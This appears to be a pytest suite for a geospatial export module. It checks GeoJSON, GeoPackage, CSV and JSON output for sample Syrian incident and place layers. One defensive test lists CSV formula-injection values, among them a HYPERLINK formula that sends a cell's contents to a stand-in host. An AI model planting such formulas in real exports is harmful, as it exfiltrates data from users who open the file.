"""GeoJSON (RFC 7946), GeoPackage and CSV exports, read back from real files."""

from __future__ import annotations

import datetime as dt
import json
import math
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from shapely.geometry import GeometryCollection, LineString, Point, Polygon

from geo.export import (
    GEOMETRY_NOTE,
    atomic_write,
    json_value,
    to_geojson_bytes,
    validate_feature_collection,
    write_csv,
    write_geojson,
    write_gpkg,
    write_json,
)
from geo.layers import COLUMNS, EXPORT_LAYERS, LAYER_NAMES, Layers, build_layers, empty_layer
from tests.geo.test_layers import sample


@pytest.fixture()
def layers() -> Layers:
    results, articles = sample()
    return build_layers(results, articles)


def _doc(gdf: gpd.GeoDataFrame) -> dict:
    return json.loads(to_geojson_bytes(gdf).decode("utf-8"))


def _feature(doc: dict, **where) -> dict:
    hits = [f for f in doc["features"]
            if all(f["properties"].get(k) == v for k, v in where.items())]
    assert len(hits) == 1, where
    return hits[0]


# --- GeoJSON --------------------------------------------------------------------------


def test_geojson_is_an_rfc7946_feature_collection(layers):
    doc = _doc(layers.incidents)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert len(doc["features"]) == len(layers.incidents)
    for f in doc["features"]:
        assert f["type"] == "Feature" and f["geometry"]["type"] == "Point"
        assert list(f["properties"]) == list(COLUMNS["incidents"])


def test_coordinates_are_lon_lat(layers):
    doc = _doc(layers.places)
    lon, lat = _feature(doc, id="qamishli")["geometry"]["coordinates"]
    assert lon == pytest.approx(41.23, abs=0.01) and lat == pytest.approx(37.05, abs=0.01)
    route = _doc(layers.routes)["features"][0]["geometry"]
    assert route["type"] == "LineString"
    assert route["coordinates"] == [[41.23142, 37.05215], [40.74772, 36.50237]]


def test_lists_dates_and_nulls(layers):
    doc = _doc(layers.incidents)
    meeting = _feature(doc, type="patrol_encounter")["properties"]
    assert meeting["actors"] == ["US forces", "Russian forces"]
    assert meeting["sources"][0]["article"] == "000"
    assert meeting["fatalities"] is None and meeting["date"] == "2022-10-08"
    assert isinstance(meeting["n_sources"], int) and isinstance(meeting["approximate"], bool)
    assert meeting["date_from"] == "text"  # a day its text gives, not the publication's


def test_arabic_is_written_as_utf8_not_escapes(layers):
    raw = to_geojson_bytes(layers.incidents)
    assert "القحطانية".encode() in raw and b"\\u06" not in raw
    assert _feature(json.loads(raw), type="patrol_encounter")["properties"][
        "place_name_ar"] == "القحطانية"


def test_same_layer_same_bytes(layers):
    assert to_geojson_bytes(layers.incidents) == to_geojson_bytes(layers.incidents.copy())
    results, articles = sample()
    again = build_layers(list(reversed(results)), articles)
    assert to_geojson_bytes(again.incidents) == to_geojson_bytes(layers.incidents)


def test_values_are_plain_json():
    gdf = gpd.GeoDataFrame({
        "nan": [float("nan")], "inf": [float("inf")], "np_int": [np.int64(3)],
        "np_float": [np.float32(0.5)], "when": [dt.date(2022, 10, 8)],
        "stamp": [pd.Timestamp("2022-10-08T17:41")], "array": [np.array([1, 2])],
        "tuple": [("a", "b")], "nested": [{"k": [None, float("nan")]}], "na": [pd.NA],
    }, geometry=[Point(41.2314159265, 37.0521999)], crs=4326)
    props = _doc(gdf)["features"][0]["properties"]
    assert props == {"nan": None, "inf": None, "np_int": 3, "np_float": 0.5,
                     "when": "2022-10-08", "stamp": "2022-10-08T17:41:00", "array": [1, 2],
                     "tuple": ["a", "b"], "nested": {"k": [None, None]}, "na": None}
    assert b"NaN" not in to_geojson_bytes(gdf)
    assert _doc(gdf)["features"][0]["geometry"]["coordinates"] == [41.231416, 37.0522]


def test_other_crs_is_reprojected_to_wgs84():
    gdf = gpd.GeoDataFrame({"a": [1]}, geometry=[Point(41.23142, 37.05215)], crs=4326)
    lon, lat = _doc(gdf.to_crs(3857))["features"][0]["geometry"]["coordinates"]
    assert (lon, lat) == pytest.approx((41.23142, 37.05215), abs=1e-6)


def test_polygons_wind_counter_clockwise_and_missing_geometry_is_null():
    clockwise = Polygon([(40, 36), (40, 37), (41, 37), (41, 36)])
    gdf = gpd.GeoDataFrame({"a": [1, 2]}, geometry=[clockwise, None], crs=4326)
    doc = _doc(gdf)
    ring = doc["features"][0]["geometry"]["coordinates"][0]
    area2 = sum(x0 * y1 - x1 * y0 for (x0, y0), (x1, y1) in zip(ring, ring[1:], strict=False))
    assert area2 > 0
    assert doc["features"][1]["geometry"] is None


@pytest.mark.parametrize("name", LAYER_NAMES)
def test_empty_layers_are_valid(tmp_path, name):
    doc = _doc(empty_layer(name))
    assert doc == {"type": "FeatureCollection", "features": []}
    path = write_geojson(empty_layer(name), tmp_path / f"{name}.geojson")
    assert len(gpd.read_file(path, engine="pyogrio")) == 0


def test_not_a_geodataframe_raises():
    with pytest.raises(TypeError, match="GeoDataFrame"):
        to_geojson_bytes(pd.DataFrame({"a": [1]}))


@settings(max_examples=60, deadline=None)
@given(st.text(), st.lists(st.text(max_size=20), max_size=4))
def test_any_text_round_trips(text, items):
    gdf = gpd.GeoDataFrame({"t": [text], "l": [items]}, geometry=[Point(40.5, 36.5)], crs=4326)
    props = _doc(gdf)["features"][0]["properties"]
    assert props == {"t": text, "l": items}


# --- files ----------------------------------------------------------------------------


def test_geojson_file_reads_back_with_the_same_values(tmp_path, layers):
    path = write_geojson(layers.incidents, tmp_path / "incidents.geojson")
    back = gpd.read_file(path, engine="pyogrio")
    assert len(back) == len(layers.incidents)
    assert list(back["id"]) == list(layers.incidents["id"])
    assert list(back["place_name_ar"]) == list(layers.incidents["place_name_ar"])
    assert list(back["n_sources"]) == list(layers.incidents["n_sources"])
    assert [list(a) for a in back["actors"]] == list(layers.incidents["actors"])
    for got, want in zip(back.geometry, layers.incidents.geometry, strict=True):
        assert got.equals_exact(want, 1e-6)
    assert back.crs.to_epsg() == 4326


def test_write_geojson_refuses_an_invalid_document_and_keeps_the_old_file(tmp_path, layers,
                                                                          monkeypatch):
    import geo.export as export

    path = write_geojson(layers.places, tmp_path / "places.geojson")
    before = path.read_bytes()
    good = b'{"type":"Feature","properties":{},"geometry":null}'
    bad = b'{"type":"Feature","geometry":{"type":"Point","coordinates":[37.05,141.23]}}'
    monkeypatch.setattr(export, "_features", lambda gdf: iter([good, bad]))  # written one by one
    with pytest.raises(ValueError, match=r"places.geojson: not written.*features\[1\]: no "
                                         r"'properties'.*features\[1\].geometry.coordinates"):
        write_geojson(layers.places, path)
    assert path.read_bytes() == before and list(tmp_path.iterdir()) == [path]
    assert write_geojson(layers.places, path, validate=False).read_bytes() == \
        b'{"type":"FeatureCollection","features":[' + good + b"," + bad + b"]}"


def test_writes_leave_no_temporary_files(tmp_path, layers):
    write_geojson(layers.incidents, tmp_path / "incidents.geojson")
    write_gpkg(layers, tmp_path / "layers.gpkg")
    write_csv(layers.incidents, tmp_path / "incidents.csv", layer="incidents")
    write_json({"a": 1}, tmp_path / "report.json")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "incidents.csv", "incidents.geojson", "layers.gpkg", "report.json"]


def test_an_interrupted_write_keeps_the_previous_file(tmp_path):
    target = tmp_path / "incidents.geojson"
    target.write_text("previous")

    def broken(tmp: Path) -> None:
        tmp.write_text("half a lay")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, broken)
    assert target.read_text() == "previous"
    assert [p.name for p in tmp_path.iterdir()] == ["incidents.geojson"]


def test_gpkg_has_the_four_layers_with_lists_as_json(tmp_path, layers):
    path = write_gpkg(layers, tmp_path / "layers.gpkg")
    listed = {name: kind for name, kind in pyogrio.list_layers(path)}
    assert listed == {"incidents": "Point", "bases": "Point", "routes": "LineString",
                      "places": "Point"}
    for name in EXPORT_LAYERS:
        back = gpd.read_file(path, layer=name, engine="pyogrio")
        assert len(back) == len(layers[name]), name
        assert list(back["id"]) == list(layers[name]["id"])
    inc = gpd.read_file(path, layer="incidents", engine="pyogrio").set_index("id")
    want = layers.incidents.set_index("id")
    for iid in want.index:
        assert json.loads(inc.loc[iid, "actors"]) == want.loc[iid, "actors"]
        assert json.loads(inc.loc[iid, "sources"]) == want.loc[iid, "sources"]
        f = want.loc[iid, "fatalities"]
        assert (pd.isna(inc.loc[iid, "fatalities"]) if f is None
                else inc.loc[iid, "fatalities"] == f)
    assert inc.crs.to_epsg() == 4326


def test_gpkg_of_empty_layers(tmp_path):
    empty = build_layers([], {})
    path = write_gpkg(empty, tmp_path / "empty.gpkg")
    assert {n for n, _ in pyogrio.list_layers(path)} == set(EXPORT_LAYERS)
    assert len(gpd.read_file(path, layer="routes", engine="pyogrio")) == 0


def test_gpkg_needs_every_layer(tmp_path, layers):
    with pytest.raises(KeyError, match="routes"):
        write_gpkg({"incidents": layers.incidents}, tmp_path / "x.gpkg")


def test_gpkg_is_replaced_whole(tmp_path, layers):
    path = tmp_path / "layers.gpkg"
    write_gpkg(layers, path)
    write_gpkg(build_layers([], {}), path)
    assert len(gpd.read_file(path, layer="incidents", engine="pyogrio")) == 0


def test_csv_reads_back(tmp_path, layers):
    path = write_csv(layers.places, tmp_path / "places.csv", layer="places")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read Arabic
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == [*COLUMNS["places"], "lon", "lat", "wkt"]
    row = back.set_index("id").loc["qamishli"]
    assert row["name_ar"] == "القامشلي" and json.loads(row["articles"]) == ["002", "004"]
    assert (row["lon"], row["lat"]) == pytest.approx((41.23142, 37.05215))
    route_csv = write_csv(layers.routes, tmp_path / "routes.csv")
    assert pd.read_csv(route_csv)["wkt"][0].startswith("LINESTRING")


def test_csv_cells_never_run_as_formulas_but_geojson_keeps_the_text(tmp_path, layers):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
               "\tx", "a=b stays"]
    places = layers.places.iloc[:1].copy()
    for text in hostile:
        places.loc[places.index[0], "name_en"] = text
        back = pd.read_csv(write_csv(places, tmp_path / "p.csv", layer="places"),
                           encoding="utf-8-sig", keep_default_na=False)
        cell = back["name_en"][0]
        assert cell == (text if text[0] == "a" else "'" + text)
        assert back["lon"][0] == pytest.approx(places.geometry.x.iloc[0])  # numbers stay numbers
        assert _doc(places)["features"][0]["properties"]["name_en"] == text  # GeoJSON unchanged


def test_report_json_is_plain(tmp_path):
    path = write_json({"when": dt.date(2022, 1, 2), "x": float("nan"), "ar": "دمشق"},
                      tmp_path / "r.json")
    assert json.loads(path.read_text("utf-8")) == {"when": "2022-01-02", "x": None, "ar": "دمشق"}


def test_json_value_of_a_line():
    assert json_value(LineString([(0, 0), (1, 1)])) == "LINESTRING (0 0, 1 1)"
    assert json_value(math.nan) is None


# --- the RFC 7946 check ---------------------------------------------------------------

_POINT = {"type": "Point", "coordinates": [41.23, 37.05]}


def _fc(*features: dict, **members) -> dict:
    return {"type": "FeatureCollection", "features": list(features), **members}


def _feat(geometry: dict | None = _POINT, **members) -> dict:
    return {"type": "Feature", "properties": {}, "geometry": geometry, **members}


def test_every_layer_of_the_sample_validates(layers):
    for name in LAYER_NAMES:
        raw = to_geojson_bytes(layers[name])
        assert validate_feature_collection(raw) == [], name
        assert validate_feature_collection(json.loads(raw)) == [], name


@pytest.mark.parametrize("doc", [
    _fc(),
    _fc(_feat(None), _feat(properties=None), bbox=[40, 36, 42, 38]),
    _fc(_feat({"type": "LineString", "coordinates": [[40, 36], [41, 37, 300.5]]}), id="x"),
    _fc(_feat({"type": "Polygon", "coordinates": [
        [[0, 0], [10, 0], [10, 10], [0, 10], [0, 0]],
        [[2, 2], [2, 4], [4, 4], [4, 2], [2, 2]]]}, id=3)),
    _fc(_feat({"type": "GeometryCollection", "geometries": [
        _POINT, {"type": "MultiPoint", "coordinates": []},
        {"type": "MultiLineString", "coordinates": [[[180, 90], [-180, -90]]]}]})),
    _fc(_feat(bbox=[170, -10, -170, 10])),  # across the antimeridian
], ids=["empty", "nulls-bbox", "line-3d", "polygon-hole", "collection", "antimeridian"])
def test_valid_collections(doc):
    assert validate_feature_collection(doc) == []


@pytest.mark.parametrize(("doc", "problem"), [
    ([], "expected an object"),
    (b"{", "not JSON"),
    ({"type": "Feature"}, "expected 'FeatureCollection'"),
    (_fc(crs={"type": "name"}), "no 'crs' member"),
    ({"type": "FeatureCollection"}, "features: expected an array"),
    (_fc({"type": "Feature", "properties": {}}), "no 'geometry' member"),
    (_fc({"type": "Feature", "geometry": None}), "no 'properties' member"),
    (_fc(_feat(properties=[1])), "properties: expected an object or null"),
    (_fc(_feat(id=True)), "id: expected a string or a number"),
    (_fc(_feat({"type": "Circle", "coordinates": [0, 0]})), "not a GeoJSON geometry type"),
    (_fc(_feat({"type": "Point", "coordinates": [37.05, 91.0]})), "latitude 91.0"),
    (_fc(_feat({"type": "Point", "coordinates": [181, 0]})), "longitude 181"),
    (_fc(_feat({"type": "Point", "coordinates": [1]})), "2 or 3 numbers, not 1"),
    (_fc(_feat({"type": "Point", "coordinates": ["41", "37"]})), "array of numbers"),
    (_fc(_feat({"type": "Point", "coordinates": [float("nan"), 37.0]})), "nan is not finite"),
    (_fc(_feat(properties={"x": [float("inf")]})), "properties.x[0]: inf is not finite"),
    (b'{"type":"FeatureCollection","features":[],"x":NaN}', "x: nan is not finite"),
    (_fc(_feat({"type": "LineString", "coordinates": [[40, 36]]})), "2 positions or more"),
    (_fc(_feat({"type": "MultiLineString", "coordinates": [[[40, 36]]]})),
     "coordinates[0]: a LineString needs 2"),
    (_fc(_feat({"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [0, 0]]]})),
     "4 positions or more"),
    (_fc(_feat({"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1]]]})),
     "end where it starts"),
    (_fc(_feat({"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [0, 0]]]})),
     "exterior ring must wind counter-clockwise"),
    (_fc(_feat({"type": "MultiPolygon", "coordinates": [[
        [[0, 0], [10, 0], [10, 10], [0, 0]], [[2, 1], [8, 1], [8, 7], [2, 1]]]]})),
     "coordinates[0][1]: a hole must wind clockwise"),
    (_fc(_feat({"type": "GeometryCollection", "geometries": [None]})),
     "geometries[0]: expected a geometry object"),
    (_fc(_feat(bbox=[40, 38, 42, 36])), "south first"),
    (_fc(bbox=[40, 36, 42]), "bbox: expected 4 or 6 numbers"),
    (_fc(_feat({"type": "Point", "coordinates": [0, 0], "bbox": [0, 0, 2, 0, 0, 1]})),
     "lowest altitude comes first"),
])
def test_invalid_collections_say_where_and_why(doc, problem):
    problems = validate_feature_collection(doc)
    assert any(problem in p for p in problems), problems


# --- coordinates that must not be written ---------------------------------------------

_NAN, _INF = float("nan"), float("inf")
_UNWRITABLE = {
    "nan point": Point(_NAN, _NAN),
    "inf vertex": LineString([(40, 36), (_INF, 37)]),
    "lat 200": Point(40, 200),
    "lon -181": Point(-181, 36),
    "nan in a collection": GeometryCollection([Point(40, 36), Point(_NAN, 1)]),
}


def _no_constant(name: str) -> None:
    raise AssertionError(f"{name} written as a JSON number")


def _awkward() -> gpd.GeoDataFrame:
    names = ["fine", *_UNWRITABLE, "empty", "missing"]
    geoms = [Point(41.23142, 37.05215), *_UNWRITABLE.values(), Point(), None]
    return gpd.GeoDataFrame({"name": names}, geometry=geoms, crs=4326)


def test_unwritable_coordinates_become_null_with_a_note_and_the_feature_stays(tmp_path):
    gdf = _awkward()
    raw = to_geojson_bytes(gdf)
    assert validate_feature_collection(raw) == []
    features = {f["properties"]["name"]: f
                for f in json.loads(raw, parse_constant=_no_constant)["features"]}
    assert list(features) == list(gdf["name"])
    assert features["fine"]["geometry"]["coordinates"] == [41.23142, 37.05215]
    assert features["fine"]["properties"][GEOMETRY_NOTE] is None
    for name in _UNWRITABLE:
        assert features[name]["geometry"] is None, name
        assert features[name]["properties"][GEOMETRY_NOTE].startswith(
            "geometry not written: "), name
    assert "NaN or infinite" in features["inf vertex"]["properties"][GEOMETRY_NOTE]
    assert "LINESTRING (40 36, Infinity 37)" in features["inf vertex"]["properties"][
        GEOMETRY_NOTE]
    assert "outside lon -180..180" in features["lat 200"]["properties"][GEOMETRY_NOTE]
    for name in ("empty", "missing"):  # no location is not an error
        assert features[name]["geometry"] is None
        assert features[name]["properties"][GEOMETRY_NOTE] is None
    path = write_geojson(gdf, tmp_path / "awkward.geojson")
    assert len(gpd.read_file(path, engine="pyogrio")) == len(pyogrio.read_dataframe(path)) == 8


def test_the_note_joins_a_note_already_there():
    gdf = gpd.GeoDataFrame({GEOMETRY_NOTE: ["from the gazetteer"]}, geometry=[Point(0, 95)],
                           crs=4326)
    note = _doc(gdf)["features"][0]["properties"][GEOMETRY_NOTE]
    assert note.startswith("from the gazetteer; geometry not written: outside lon")


def test_a_layer_with_only_good_geometries_gets_no_note_column(layers):
    assert GEOMETRY_NOTE not in _doc(layers.incidents)["features"][0]["properties"]


def test_gpkg_and_csv_write_null_too(tmp_path, layers):
    awkward = dict(layers)
    awkward["places"] = _awkward()
    gpkg = write_gpkg(awkward, tmp_path / "layers.gpkg", names=["places"])
    back = gpd.read_file(gpkg, layer="places", engine="pyogrio")
    assert len(back) == 8 and back.geometry.notna().sum() == 1
    assert back[GEOMETRY_NOTE].notna().sum() == len(_UNWRITABLE)
    csv = pd.read_csv(write_csv(_awkward(), tmp_path / "p.csv", layer="places"),
                      encoding="utf-8-sig", keep_default_na=False)
    assert list(csv["wkt"]) == ["POINT (41.23142 37.05215)", *[""] * 7]
    assert list(csv["lon"]) == ["41.23142", *[""] * 7]
    assert list(csv["lat"]) == ["37.05215", *[""] * 7]


def test_a_nan_altitude_is_dropped_not_the_place():
    gdf = gpd.GeoDataFrame({"a": [1, 2]}, geometry=[Point(40, 36, _NAN), Point(40, 36, 350)],
                           crs=4326)
    got = [f["geometry"]["coordinates"] for f in _doc(gdf)["features"]]
    assert got == [[40.0, 36.0], [40.0, 36.0, 350.0]]


def test_a_tiny_polygon_still_winds_right_after_rounding():
    eps = 1e-7  # below the 6 decimals written
    sliver = Polygon([(40, 36), (40 + 3e-6, 36 + eps), (40 + 2e-6, 36 + 4e-6)])
    holed = Polygon([(40, 36), (40, 37), (41, 37), (41, 36)],
                    [[(40.2, 36.2), (40.8, 36.2), (40.8, 36.8), (40.2, 36.8)]])
    gdf = gpd.GeoDataFrame({"a": [1, 2]}, geometry=[sliver, holed], crs=4326)
    assert validate_feature_collection(to_geojson_bytes(gdf)) == []


def test_an_empty_member_of_a_collection_is_left_out():
    gdf = gpd.GeoDataFrame({"a": [1, 2]}, geometry=[
        GeometryCollection([Point(40, 36), Point()]), GeometryCollection([Point()])], crs=4326)
    doc = _doc(gdf)
    assert doc["features"][0]["geometry"] == {
        "type": "GeometryCollection", "geometries": [{"type": "Point",
                                                      "coordinates": [40.0, 36.0]}]}
    assert doc["features"][1]["geometry"] is None


# --- a failure while serialising leaves the previous file -----------------------------


class Unprintable:
    """A value no writer can turn into text."""

    def __str__(self) -> str:
        raise RuntimeError("cannot be shown")

    __repr__ = __str__


def _unprintable() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"id": ["x"], "v": [Unprintable()]}, geometry=[Point(40, 36)],
                            crs=4326)


@pytest.mark.parametrize("writer", ["geojson", "csv", "json", "gpkg"])
def test_a_failed_serialisation_keeps_the_previous_file_and_no_temporary(tmp_path, layers,
                                                                          writer):
    target = tmp_path / f"out.{writer}"
    target.write_bytes(b"previous")
    broken = {**layers, "routes": _unprintable()}  # the third layer of four fails
    write = {"geojson": lambda: write_geojson(_unprintable(), target),
             "csv": lambda: write_csv(_unprintable(), target),
             "json": lambda: write_json({"v": Unprintable()}, target),
             "gpkg": lambda: write_gpkg(broken, target)}[writer]
    with pytest.raises(RuntimeError, match="cannot be shown"):
        write()
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_a_failed_gpkg_layer_is_named(tmp_path, layers):
    broken = {**layers, "bases": gpd.GeoDataFrame({"c": [1j]}, geometry=[Point(40, 36)],
                                                   crs=4326)}
    with pytest.raises(NotImplementedError) as info:
        write_gpkg(broken, tmp_path / "x.gpkg")
    assert "while writing layer 'bases'" in " ".join(info.value.__notes__)
    assert list(tmp_path.iterdir()) == []


def test_write_json_writes_one_dump_s_bytes_and_escapes_lone_surrogates(tmp_path):
    import os

    value = {"files": [{"file": "القامشلي.txt", "n": i, "ok": True} for i in range(3)]}
    path = write_json(value, tmp_path / "report.json")
    assert path.read_bytes() == (json.dumps(value, ensure_ascii=False, indent=2) + "\n").encode()
    odd = write_json({"file": os.fsdecode(b"\xff.txt")}, tmp_path / "odd.json")
    assert json.loads(odd.read_bytes().decode("utf-8")) == {"file": "\\xff.txt"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["odd.json", "report.json"]


def test_write_json_writes_a_list_kept_on_disk_item_by_item_as_json_dump_would(tmp_path):
    from geo.shelf import ListShelf

    files = [{"file": "أ.txt", "warnings": [], "n": 1.5}, {"file": "b\udcff.txt", "x": {}}]
    report = {"totals": {"files": 2}, "files": files, "empty": [], "none": {}}
    write_json(report, tmp_path / "plain.json")
    write_json({**report, "files": ListShelf(files), "empty": ListShelf()}, tmp_path / "kept.json")
    assert (tmp_path / "kept.json").read_bytes() == (tmp_path / "plain.json").read_bytes()
    assert json.loads((tmp_path / "kept.json").read_text("utf-8"))["files"][1]["file"] == \
        "b\\xff.txt"  # the lone surrogate written as its visible escape, in both


def test_write_json_writes_a_long_list_item_by_item_with_json_dump_s_bytes(tmp_path):
    report = {"files": [{"file": f"{i}.txt", "warnings": ["نص"] * (i % 2)} for i in range(600)],
              "totals": {"files": 600}, "nested": {"long": list(range(300)), "short": [1]}}
    written = write_json(report, tmp_path / "report.json").read_text("utf-8")
    assert written == json.dumps(report, ensure_ascii=False, indent=2) + "\n"
